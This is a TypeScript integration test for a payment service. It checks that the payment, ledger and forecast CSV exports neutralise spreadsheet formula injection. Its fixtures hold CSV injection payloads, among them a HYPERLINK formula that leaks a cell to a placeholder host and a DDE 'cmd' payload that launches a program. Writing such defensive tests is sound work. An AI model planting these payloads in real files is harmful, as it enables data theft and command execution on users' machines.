/**
 * CSV formula injection (OWASP): every CSV the service writes — the payment file, the ledger
 * export and the liability forecast (rule names) — must not hand a spreadsheet a cell that starts a formula. Institutions are registered
 * with codes and names starting with each formula character the API lets through (`=`, `+`,
 * `-`, `@`; a leading tab or CR is trimmed away by the schemas, and is covered at the cell level
 * in test/unit/csv.test.ts and test/integration/exports-formats.test.ts), are paid, and both
 * files are read back cell by cell.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CSV_COLUMNS } from '../../src/services/exports.js';
import { businessDate } from '../../src/services/business-date.js';
import { createTestApp, type TestApp } from '../support/app.js';
import { parseCsv } from '../support/csv.js';
import { ok } from './registry/helpers.js';

const HOSTILE = [
  { code: '=1+1', name: '=HYPERLINK("http://example.invalid/?leak="&A1,"Klik her")' },
  { code: '+1+1', name: "+cmd|' /C calc'!A0" },
  { code: '-1+1', name: '-2+3' },
  { code: '@SUM(1+1)', name: '@SUM(A1:A9)' },
];
const FORMULA_START = /^[=+\-@\t\r]/;
const RULE_NAME = '=HYPERLINK("http://example.invalid/","Sprog")';

let t: TestApp;
let fund: string;
let runId: string;

beforeAll(async () => {
  t = await createTestApp();
  // The catalogue's kind, replaced without periods (any period is plausible), as the other suites do.
  ok(await t.call('PUT', '/v1/measurement-kinds/sprogvurdering', { type: 'enum', values: ['generel'] }), 200);
  fund = ok(await t.call('POST', '/v1/funds', { name: '=fund' }), 201).id;
  ok(await t.call('POST', `/v1/funds/${fund}/deposits`, { amount_ore: 10_000_000, funder: '=funder', reference: '-ref' }), 201);
  const version = {
    effective_from: '2015-01-01',
    predicate: { op: 'eq', value: 'generel' },
    amount: { fixed_ore: 1_000_000 },
    windows: [{ from: 0, to: 36, share_bp: 10000, kinds: ['vuggestue'] }],
  };
  ok(await t.call('POST', '/v1/rules', { fund_id: fund, kind: 'sprogvurdering', name: RULE_NAME, versions: [version] }), 201);
  for (const inst of HOSTILE) {
    const created = ok(await t.call('POST', '/v1/institutions', { ...inst, kind: 'vuggestue' }), 201);
    expect(created).toMatchObject(inst); // stored as sent: neutralising is the writer's job
    const child = ok(await t.call('POST', '/v1/children', { birth_date: '2019-03-15' }), 201).id;
    ok(await t.call('POST', '/v1/enrolments', { child, institution: inst.code, start: '2019-09-01', end: '2022-03-01' }), 201);
    ok(
      await t.call('POST', '/v1/measurements', { child_id: child, kind: 'sprogvurdering', period: 'age-4', value: 'generel', measured_on: '2023-04-20' }),
      201,
    );
  }
  await t.settled();
  ok(await t.call('POST', '/v1/awards/finalise', { fund_id: fund, reason: 'test: pay now' }));
  await t.settled();
  const today = businessDate(new Date(), t.ctx.config.BUSINESS_TIME_ZONE);
  runId = ok(await t.call('POST', `/v1/funds/${fund}/payment-runs`, { cutoff_on: today }), 201).id;
}, 120_000);
afterAll(async () => t?.close());

describe('CSV formula injection', () => {
  it("the payment file neutralises the code and name of every institution with a leading `'`; amounts stay numbers", async () => {
    const file = await t.call('GET', `/v1/payment-runs/${runId}/file`);
    expect(file.status).toBe(200);
    const [header, ...rows] = parseCsv(String(file.body));
    expect(header).toEqual([
      'reference',
      'fund_id',
      'cutoff_on',
      'institution_code',
      'institution_name',
      'amount_ore',
      'amount_dkk',
      'status',
      'line_reference',
      'payee_details_version',
      'cvr',
      'ean',
      'account',
    ]);
    expect(rows).toHaveLength(HOSTILE.length);
    const byCode = new Map(rows.map((r) => [r[3], r]));
    for (const inst of HOSTILE) {
      const row = byCode.get(`'${inst.code}`);
      expect(row, inst.code).toBeDefined();
      expect(row![4]).toBe(`'${inst.name}`);
      expect(row![5]).toMatch(/^\d+$/);
      expect(row![6]).toMatch(/^\d+\.\d{2}$/);
    }
    for (const row of rows) for (const cell of row) expect(FORMULA_START.test(cell), cell).toBe(false);
  });

  it('the ledger CSV export has no cell starting a formula except signed amounts, which stay numbers', async () => {
    const res = await t.app.inject({ method: 'GET', url: '/v1/ledger/export.csv', headers: { authorization: `Bearer ${t.adminKey}` } });
    expect(res.statusCode).toBe(200);
    const [header, ...rows] = parseCsv(res.body);
    expect(header).toEqual([...CSV_COLUMNS]);
    const amount = CSV_COLUMNS.indexOf('amount_ore');
    const memo = CSV_COLUMNS.indexOf('memo');
    expect(
      rows.some((r) => r[amount]!.startsWith('-')),
      'some debit',
    ).toBe(true);
    for (const row of rows) {
      expect(row[amount]).toMatch(/^-?\d+$/);
      row.forEach((cell, i) => {
        if (i !== amount) expect(FORMULA_START.test(cell), `${CSV_COLUMNS[i]}: ${cell}`).toBe(false);
      });
    }
    expect(rows.map((r) => r[memo])).toContain('deposit from =funder (-ref)');
  });

  it('the liability forecast CSV neutralises a rule name; its figures stay numbers', async () => {
    const res = await t.app.inject({
      method: 'GET',
      url: `/v1/funds/${fund}/forecast?horizon=5&format=csv`,
      headers: { authorization: `Bearer ${t.adminKey}` },
    });
    expect(res.statusCode).toBe(200);
    const [header, ...rows] = parseCsv(res.body);
    const name = header!.indexOf('rule_name');
    expect(rows.map((r) => r[name])).toContain(`'${RULE_NAME}`);
    // A negative amount (holdings run out) is a number, not a formula: spreadsheets read it as one.
    const number = /^-?\d+(\.\d+)?$/;
    for (const row of rows) row.forEach((cell, i) => number.test(cell) || expect(FORMULA_START.test(cell), `${header![i]}: ${cell}`).toBe(false));
  });
});
